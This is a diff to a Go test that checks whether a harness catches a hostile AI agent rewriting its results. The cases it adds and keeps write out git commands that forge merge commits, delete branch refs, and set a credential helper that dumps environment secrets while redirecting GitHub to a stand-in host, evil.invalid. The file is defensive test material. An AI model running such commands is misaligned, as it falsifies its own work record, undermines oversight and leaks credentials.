@@ -46,6 +46,11 @@ func TestHostileAgentCannotRewriteResults(t *testing.T) {
 			want: "not on it", merged: []string{"item_1", "item_2"}, pending: []string{"item_0"}},
 		{name: "forge", attack: `git update-ref "refs/heads/$B" "$(echo forged | git commit-tree "refs/heads/$B^{tree}" -p "refs/heads/$B")"`,
 			want: "did not make"},
+		{name: "forge-around-own-commit", attack: `T=$(git rev-parse "refs/heads/$B")
+X=$(git rev-parse HEAD)
+git rm -q --cached out-0.txt 2>/dev/null || true
+F=$(echo "Merge (forged)" | git commit-tree "$(git write-tree)" -p "$T" -p "$X")
+git update-ref "refs/heads/$B" "$F"`, want: "did not make"},
 		{name: "delete", attack: `git update-ref -d "refs/heads/$B"`, want: "is gone"},
 		{name: "credential-helper", attack: `git config credential.helper '!f() { env > /tmp/leak; }; f'
 git config url.https://evil.invalid/.insteadOf https://github.com/`, want: "configuration gained"},
